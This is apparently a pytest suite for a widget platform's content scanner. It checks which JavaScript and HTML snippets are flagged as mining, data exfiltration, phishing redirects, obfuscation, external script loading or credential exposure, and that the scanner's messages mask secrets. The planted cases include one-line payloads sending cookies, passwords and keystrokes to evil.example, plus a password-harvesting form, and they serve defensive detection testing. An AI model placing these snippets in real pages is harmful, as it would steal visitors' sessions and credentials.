"""Our reading of the platform's content scan: what it finds, what it excuses, and that it never prints a secret."""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path

import pytest

from widget_workbench.bundle import build, hosting_of
from widget_workbench.checking.content_scan import Category, Finding, is_scanned, scan

CHECKOUT = Path(__file__).parents[2]

# Random, and written in parts: no file of ours holds what looks like a credential.
RANDOM = "q7Zr2WmX" + "9kTb4LcV" + "8nYp3HsD" + "6fJg1QaE"
HEX = "9f86d081" + "884c7d65" + "9a2feaa0" + "c55ad015" + "a3bf4f1b"
JWT = "eyJhbGciOiJIUzI1NiJ9." + "eyJzdWIiOiIxMjM0NTY3ODkwIn0." + "dozjgNryP4J3jVmNHl0w5N_XgL0n3I9P"

PLANTED: Mapping[Category, list[str]] = {
    Category.CRYPTO_MINING: [
        "§new CoinHive.Anonymous('site-key').start()",
        "import('./a.js');\n§coinhive.start()",
        "const pool = 'wss://x';\n// §coin-hive is here",
        "const pool = '§stratum+tcp://pool.example:3333';",
        "§CryptoLoot.Anonymous('a')",
        "<script>§deepMiner.init()</script>",
        "const §cryptonight = new WebAssembly.Module(bytes); hashes()",
        "load('https://§authedmine.com/lib/a.js')",
        "worker.postMessage('§randomx'); // in wasm",
        "§monerominer()",
    ],
    Category.DATA_EXFILTRATION: [
        "§fetch('https://evil.example/c?' + document.cookie)",
        "§navigator.sendBeacon('https://evil.example/', document.cookie)".replace(
            "§navigator.", "navigator.§"
        ),
        "new Image()§.src = 'https://evil.example/?c=' + document.cookie;",
        "const x = new XMLHttpRequest();\nx.§open('POST', 'https://evil.example/');\nx.send(document.cookie);",
        "§fetch(`https://evil.example/${btoa(localStorage.getItem('session'))}`)",
        "const all = JSON.stringify(sessionStorage);\n§fetch('//evil.example/', { method: 'POST', body: all });",
        "document.addEventListener('keydown', (event) => {\n  §fetch('https://evil.example/' + event.key);\n});",
        "const value = form.password.value;\nnavigator.§sendBeacon('https://evil.example/', value);",
        "const socket = new §WebSocket('wss://evil.example'); socket.send(document['cookie']);".replace(
            "wss://", "https://"
        ),
        "<img onload=\"§fetch('https://evil.example/', {method: 'POST', body: new FormData(document.forms[0])})\">",
        "const socket = new §WebSocket('wss://evil.example');\nsocket.onopen = () => socket.send(document.cookie);",
        "const p = document.getElementById('password').value;\n§fetch('https://evil.example/?p=' + p);",
    ],
    Category.PHISHING_REDIRECT: [
        "§window.location = 'https://evil.example/login';",
        '\n\n§location.href = "https://evil.example/"',
        "§window['location'] = `https://evil.example/`;",
        "§top.location.replace('//evil.example/')",
        "§document.location.assign('https://evil.example')",
        "if (a) { §self.location.href='https://evil.example' }",
        "window.§open('https://evil.example/', '_self')",
        '<p>a</p>\n§<meta http-equiv="refresh" content="0; url=https://evil.example/">',
        '§<form action="https://evil.example/login"><input type="password"></form>',
        "<a onclick=\"§location='https://evil.example/'\">x</a>",
    ],
    Category.OBFUSCATION: [
        "§eval(atob('YWxlcnQoMSk='))",
        "window.§eval(atob(code))",
        "§eval(String.fromCharCode(97,108,101,114,116))",
        "\n§eval(unescape('%61%6c'))",
        "new §Function(atob('YWxlcnQoMSk='))()",
        "§setTimeout(\"eval(atob('YQ=='))\", 10)",
        "§eval(function(p,a,c,k,e,d){return p})",
        "var " + ",".join(f"{'§' if n == 0 else ''}_0x{n:04x}1=1" for n in range(30)),
        "const a = '§" + r"\x68\x65\x6c\x6c\x6f\x20\x77\x6f\x72\x6c\x64\x21" * 3 + "';",
        "String.§fromCharCode(104,101,108,108,111,32,119,111,114,108,100,33,33,33,33,33,33)",
        "§" + "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]" * 8,
    ],
    Category.EXTERNAL_SCRIPT_LOADING: [
        '§<script src="https://evil.example/a.js"></script>',
        "<p></p>\n§<script src='//evil.example/a.js'></script>",
        '§<script src="http://cdn.jsdelivr.net/npm/vue"></script>',
        '§<script src="https://cdn.jsdelivr.net.evil.example/a.js"></script>',
        '§<script src="https://cdn.jsdelivr.net@evil.example/a.js"></script>',
        "§import x from 'https://evil.example/a.mjs';",
        "const m = await §import('https://evil.example/a.mjs')",
        "§importScripts('https://evil.example/a.js')",
        "new §Worker('https://evil.example/a.js')",
        "const s = document.createElement('script');\ns.§src = 'https://evil.example/a.js';",
        '§<link rel="modulepreload" href="https://evil.example/a.js">',
        "$.§getScript('https://evil.example/a.js')",
    ],
    Category.CREDENTIAL_EXPOSURE: [
        "const key = '§AKIA" + "QX7T2MZL4RWP9KDB" + "';",
        "\nconst token = '§ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8" + "';",
        "fetch(url, { headers: { Authorization: 'Bearer §" + RANDOM + "' } })",
        "const session = '§" + JWT + "';",
        "-----BEGIN RSA PRIVATE KEY-----".replace("---B", "---B", 1).join(["`§", "\n…`"]),
        "const apiKey = '§" + RANDOM + "';",
        '{ "client_secret": "§' + RANDOM + '" }',
        '<div data-api-key="§' + RANDOM + '"></div>',
        "const password = '§Tr0ub4dor&3x';",
        "connect('https://ann:§s3cr3tpass@db.example/')",
        "const stripe = '§sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc" + "';",
        "headers.set('X-Api-Key', '§" + RANDOM + "')",
    ],
}

SUSPECTED: Mapping[Category, list[str]] = {
    Category.PHISHING_REDIRECT: [
        "§<form><input type=password></form>",
        "field.§type = 'password'".replace("field.§", "field§."),
    ],
    Category.OBFUSCATION: [
        "const code = §atob('" + "QUJD" * 300 + "');",
        "§" + "a=1;" * 30_000,
    ],
    Category.CREDENTIAL_EXPOSURE: [
        "const build = '§" + HEX + "';",
        "load('§" + RANDOM + "')",
        "const stripe = '§pk_live_" + "4eC39HqLyjWDarjtT1zdp7dc" + "';",
    ],
}

EXCUSED: Mapping[Category, list[str]] = {
    Category.CRYPTO_MINING: [
        "const determiner = 1; // data mining, text miner, process mining",
        "import { coinImport } from './coins.js'",
        "<p>How our miners work underground</p>",
        "crypto.subtle.digest('SHA-256', bytes)",
        "const hashrate = '';",
        "class Miner {}",
        "const randomX = Math.random()",
        "new Worker('./hash.js')",
        "const coin = 'hive';",
        "WebAssembly.instantiate(bytes)",
    ],
    Category.DATA_EXFILTRATION: [
        "a.onkeydown = (e) => { if (e.key === 'Enter') fetch('https://api.example.com/?q=' + query); }",
        "fetch('https://api.example.com/list'),t=document.cookie;",
        "fetch('https://api.example.com/list').then(show);\nconst own = document.cookie.match(/csrf=(.*)/)[1];",
        "const own = document.cookie.match(/csrf=(.*)/)[1];\nfetch('https://api.example.com/list').then(show);",
        "const theme = localStorage.getItem('theme'); fetch('https://api.example.com/list');",
        "const token = document.cookie.match(/csrf=([^;]+)/)[1];",
        "fetch('/api/me', { headers: { 'X-CSRF': document.cookie } })",
        "localStorage.setItem('open', '1'); fetch('https://api.example.com/list')",
        "sdk.connectors.execute({ permalink: 'a', method: 'GET', payload: new FormData(form) })",
        "fetch('https://api.example.com/weather?q=Warsaw')",
        "input.addEventListener('keydown', (event) => { if (event.key === 'Enter') search(); })",
        "navigator.sendBeacon('/log', document.cookie)",
        "image.src = 'https://cdn.example.com/a.png';",
        "const a = sessionStorage.getItem('tab');",
        "<a href='https://example.com/'>x</a><script>localStorage.getItem('a')</script>",
    ],
    Category.PHISHING_REDIRECT: [
        "location.href = '/search?q=' + encodeURIComponent(query);",
        "if (location.href === 'https://example.com/') run();",
        "const { location } = 'https://example.com/';",
        "const location = 'https://example.com/';",
        "window.open('https://example.com/')",
        "window.open('https://example.com/', '_blank')",
        "text.replace('https://example.com/', '')",
        '<a href="https://example.com/">Elsewhere</a>',
        '<form action="/search"><input type="search"></form>',
        '<form action="https://example.com/"><input type="text"></form>',
        "const url = new URL(location.href);",
        '<meta http-equiv="refresh" content="30">',
    ],
    Category.OBFUSCATION: [
        "const text = atob(answer.body);",
        "String.fromCharCode(65 + index)",
        "const evaluate = (x) => x; evaluate(atob(y));",
        "setTimeout(() => atob(y), 10)",
        "const flags = [!0, !1, !0];",
        r"const dash = '\u2013', nbsp = '\u00a0';",
        "!function(e,t){return e+t}(1,2);" * 400,
        "const escapes = /[\\x00-\\x1f\\x7f-\\x9f]/g;",
        "const bytes = [0x1f, 0x8b, 0x08];",
        "retrieval(unescape(x))",
    ],
    Category.EXTERNAL_SCRIPT_LOADING: [
        '<script src="https://cdn.jsdelivr.net/npm/vue@3"></script>',
        '<script src="https://cdnjs.cloudflare.com/a.js"></script>',
        '<script src="https://unpkg.com/a.js"></script>',
        "import confetti from 'https://esm.sh/canvas-confetti@1';",
        '<script src="//cdn.jsdelivr.net/npm/vue@3"></script>',
        '<script src="https://static.customer-hub.northpass.com/widget-sdk/latest/index.umd.js"></script>',
        '<script type="module" src="./widget.js"></script>',
        '<iframe src="https://example.com/embed"></iframe>',
        '<img src="https://example.com/a.png" alt="">',
        '<link rel="stylesheet" href="https://example.com/a.css">',
        '<a href="https://example.com/a.js">the script</a>',
        "const home = 'https://example.com/';",
    ],
    Category.CREDENTIAL_EXPOSURE: [
        "colors('" + "1f77b4ff7f0e2ca02c" * 2 + "d627289467bd8c564b')",
        "const apiKey = '${API_KEY}';",
        "const apiKey = '{{ api_key }}';",
        "const token = 'YOUR_API_KEY_GOES_HERE_1234';",
        "const id = '3f2504e0-4f89-41d3-9a0c-0305e82c3301';",
        "const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';",
        "const hex = '0123456789abcdef0123456789abcdef';",
        "const password = 'xxxxxxxxxxxx';",
        "const secret = 'changeme-please-123';",
        "const label = 'Password: at least 8 characters';",
        '<input name="token" type="password" autocomplete="current-password">',
        "const name = 'csrfTokenHeaderNameForEveryRequestOfOurs';",
        "document.querySelector('#csrftoken')",
        '<link rel="stylesheet" href="https://unpkg.com/a.css" integrity="sha384-'
        + RANDOM * 2
        + '">',
        "image.src = 'data:image/png;base64," + RANDOM * 4 + "';",
        "<path d='M10 20L30 40C50 60 70 80 90 100Z'/>",
        "const path = 'packages/components/widgets/weather/2026/forecast';",
        "const sessionToken = 'session.token.of.the.visitor.v2';",
        "const type = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';",
    ],
}


def suffix(text: str) -> str:
    return ".html" if text.lstrip("§\n").startswith("<") or "<meta" in text else ".js"


def rows(table: Mapping[Category, list[str]]) -> list[object]:
    return [
        pytest.param(category, text, id=f"{category}-{index}")
        for category, texts in table.items()
        for index, text in enumerate(texts)
    ]


def found(text: str) -> list[Finding]:
    return scan(f"a{suffix(text)}", text.replace("§", "").encode())


def expected_line(text: str) -> int:
    return text[: text.index("§")].count("\n") + 1


@pytest.mark.parametrize(("category", "text"), rows(PLANTED))
def test_what_the_platform_names_is_found_with_its_line(category: Category, text: str) -> None:
    (finding, *more) = [each for each in found(text) if each.category == category]
    assert all(each.line == finding.line for each in more)
    assert finding.line == expected_line(text)
    assert not finding.suspicion
    assert ": " in finding.reason  # what is there, and the way out


@pytest.mark.parametrize(("category", "text"), rows(SUSPECTED))
def test_what_it_may_mean_is_a_suspicion(category: Category, text: str) -> None:
    findings = found(text)
    assert {each.category for each in findings} == {category}
    assert all(each.suspicion for each in findings)


@pytest.mark.parametrize(("category", "text"), rows(EXCUSED))
def test_what_is_excused_is_not_found(category: Category, text: str) -> None:
    assert [each for each in found(text) if each.category == category] == []


def test_each_category_has_planted_and_excused_cases() -> None:
    for category in Category:
        assert len(PLANTED[category]) >= 10
        assert len(EXCUSED[category]) >= 10


@pytest.mark.parametrize(
    ("path", "scanned"),
    [
        ("a.html", True),
        ("a.HTM", True),
        ("a/b.js", True),
        ("a.mjs", True),
        ("a.jsx", True),
        ("a.css", False),
        ("a.json", False),
        ("a.py", False),
        ("a.svg", False),
        ("js", False),
    ],
)
def test_scanned_are_html_and_javascript_alone(path: str, scanned: bool) -> None:
    assert is_scanned(path) == scanned
    assert bool(scan(path, b"eval(atob(a))")) == scanned


@pytest.mark.parametrize("text", PLANTED[Category.CREDENTIAL_EXPOSURE])
def test_no_message_shows_more_of_a_secret_than_its_beginning(text: str) -> None:
    secret = text.partition("§")[2][:16].rstrip("'\"`@")
    for finding in found(text):
        if "PRIVATE KEY" not in text:
            assert secret not in finding.excerpt
            assert secret not in finding.reason
        assert len(finding.excerpt) <= 80
        assert "\n" not in finding.excerpt


def test_a_secret_is_masked_in_what_another_category_shows() -> None:
    text = f"fetch('https://evil.example/?key={RANDOM}&c=' + document.cookie); const apiKey = '{RANDOM}';"
    findings = scan("a.js", text.encode())
    assert {each.category for each in findings} >= {Category.DATA_EXFILTRATION}
    assert all(RANDOM[:9] not in each.excerpt + each.reason for each in findings)


@pytest.mark.parametrize(
    "unit",
    [
        "a",
        "[",
        "=",
        "eval(",
        r"\x41",
        '"',
        "'",
        "`",
        "<form ",
        "<script src=",
        "location=",
        "{",
        "//",
        "password='",
        "token:",
        "eyJ",
        "import ",
        "from '//",
        "document.cookie;fetch('https://a/')",
        "§",
        "\0",
    ],
)
def test_hostile_texts_come_to_an_end(unit: str) -> None:
    text = (unit * (300_000 // len(unit) + 1)).encode()
    for path in ("a.js", "a.html"):
        scan(path, text)


def test_bytes_that_are_no_text_do_no_harm() -> None:
    assert scan("a.js", bytes(range(256)) * 100) == []
    assert [each.category for each in scan("a.html", b"\xff<script>eval(atob(a))</script")] == [
        Category.OBFUSCATION
    ]


@pytest.mark.parametrize("runtime", ["bundled", "cdn"])
def test_what_we_ship_has_no_finding(tmp_path: Path, runtime: str) -> None:
    build(CHECKOUT / "examples", tmp_path / "dist", hosting_of(runtime))
    scanned = [path for path in (tmp_path / "dist").rglob("*") if is_scanned(path.name)]
    # Each of the eleven widgets' entry and loader, and its core where that is not the CDN's.
    assert len(scanned) == 11 * (2 if runtime == "cdn" else 3)
    contents = {path.read_bytes(): path for path in scanned if path.is_file()}
    assert [each for content, path in contents.items() for each in scan(path.name, content)] == []
